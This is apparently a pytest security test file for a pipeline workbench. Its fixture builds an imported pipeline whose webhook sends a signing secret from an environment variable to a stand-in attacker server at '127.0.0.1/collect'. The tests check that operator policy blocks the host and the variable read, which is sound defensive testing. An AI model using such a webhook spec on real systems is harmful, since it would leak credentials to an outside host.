"""Issue 13, attack 1: an imported pipeline's webhook posts this machine's secrets to a host it chose. The operator's
policy decides which hosts a webhook reaches and which environment variables a header reads; a pipeline only narrows."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import ClassVar

import pytest
from security_support import counter_with_webhook
from toy_blocks import ToyDetector, ToyRule, ToySource, ToyTracker

from blocks.sinks.webhook import Webhook
from workbench.core.errors import WorkbenchError
from workbench.core.registry import BlockRegistry
from workbench.engine.runner import RunOptions, run_pipeline
from workbench.engine.spec import parse_spec


class _Catcher(BaseHTTPRequestHandler):
    received: ClassVar[list[dict]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        type(self).received.append({"headers": dict(self.headers), "body": body})
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def attacker():
    """An HTTP server the imported pipeline chose, recording every POST it gets."""
    _Catcher.received = []
    server = HTTPServer(("127.0.0.1", 0), _Catcher)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/collect", _Catcher.received
    server.shutdown()


def _imported(url: str) -> dict:
    """What the other district published: its own allow-list, and a header reading this machine's registry secret."""
    return {
        "version": 1, "meta": {"name": "imported"},
        "nodes": [{"id": "src", "type": "sources/toy@v1", "config": {"frames": 12}},
                  {"id": "det", "type": "detection/toy@v1", "config": {"speed": 3}},
                  {"id": "trk", "type": "tracking/toy@v1"},
                  {"id": "rule", "type": "rules/toy@v1", "config": {"every": 4}},
                  {"id": "hook", "type": "sinks/webhook@v1", "config": {
                      "url": url, "allowed_hosts": ["127.0.0.1"], "retries": 0,
                      "headers_env": {"X-Key": "WORKBENCH_REGISTRY_SECRET_KEY"}}}],
        "edges": [{"from": "src.frames", "to": "det.image"}, {"from": "det.detections", "to": "trk.detections"},
                  {"from": "trk.tracks", "to": "rule.tracks"}, {"from": "rule.events", "to": "hook.events"}]}


def _run(spec: dict, out) -> None:
    registry = BlockRegistry.of((ToySource, ToyDetector, ToyTracker, ToyRule, Webhook))
    run_pipeline(parse_spec(spec), RunOptions(out_dir=out), registry=registry)


@pytest.fixture(autouse=True)
def _secret(monkeypatch):
    monkeypatch.setenv("WORKBENCH_REGISTRY_SECRET_KEY", "district-signing-secret")
    monkeypatch.setenv("ALERT_TOKEN", "alert-token")


def test_by_default_a_pipeline_reaches_no_host(attacker, operator_policy, tmp_path):
    url, received = attacker
    operator_policy()  # an empty policy file: the defaults
    with pytest.raises(WorkbenchError) as err:
        _run(_imported(url), tmp_path / "out")
    assert next((p.code, p.node, p.field) for p in err.value.problems) == ("webhook_host_not_in_policy", "hook", "url")
    assert "webhook_hosts" in err.value.problems[0].message("en")  # names the setting the operator would change
    assert received == []


def test_an_allowed_host_still_cannot_read_a_variable_the_operator_did_not_list(attacker, operator_policy, tmp_path):
    url, received = attacker
    operator_policy(webhook_hosts=["127.0.0.1"], webhook_header_env=["ALERT_*"])
    with pytest.raises(WorkbenchError) as err:
        _run(_imported(url), tmp_path / "out")
    problem = err.value.problems[0]
    assert (problem.code, problem.node, problem.field) == ("webhook_env_not_in_policy", "hook", "headers_env.X-Key")
    assert "webhook_header_env" in problem.message("zh")
    assert received == []


def test_what_the_operator_allows_is_delivered(attacker, operator_policy, tmp_path):
    url, received = attacker
    operator_policy(webhook_hosts=["127.0.0.1"], webhook_header_env=["ALERT_*"])
    spec = _imported(url)
    spec["nodes"][-1]["config"]["headers_env"] = {"Authorization": "ALERT_TOKEN"}
    _run(spec, tmp_path / "out")
    assert received and all(r["headers"]["Authorization"] == "alert-token" for r in received)
    assert not any(b"district-signing-secret" in r["body"] for r in received)


def test_a_pipeline_cannot_widen_the_operator_list(attacker, operator_policy, tmp_path):
    url, received = attacker
    operator_policy(webhook_hosts=["10.0.0.0/8"])  # the operator allows the city network, not loopback
    with pytest.raises(WorkbenchError) as err:
        _run(_imported(url), tmp_path / "out")  # the pipeline lists 127.0.0.1 itself
    assert err.value.problems[0].code == "webhook_host_not_in_policy"
    assert received == []


def test_an_evaluation_replay_posts_nothing(attacker, operator_policy, tmp_path):
    """Scoring a pipeline on a labeled clip must not alert anyone, even where the operator allows the host."""

    from workbench.features.evaluation.replay import run_and_collect
    from workbench.features.synth import generate

    url, received = attacker
    operator_policy(webhook_hosts=["127.0.0.1"])
    data = counter_with_webhook({"url": url, "retries": 0})
    clip = generate("traffic", tmp_path / "clip", seed=0).video
    events, summary = run_and_collect(parse_spec(data), clip, tmp_path / "out")
    assert events and summary["status"] == "done"
    assert received == []
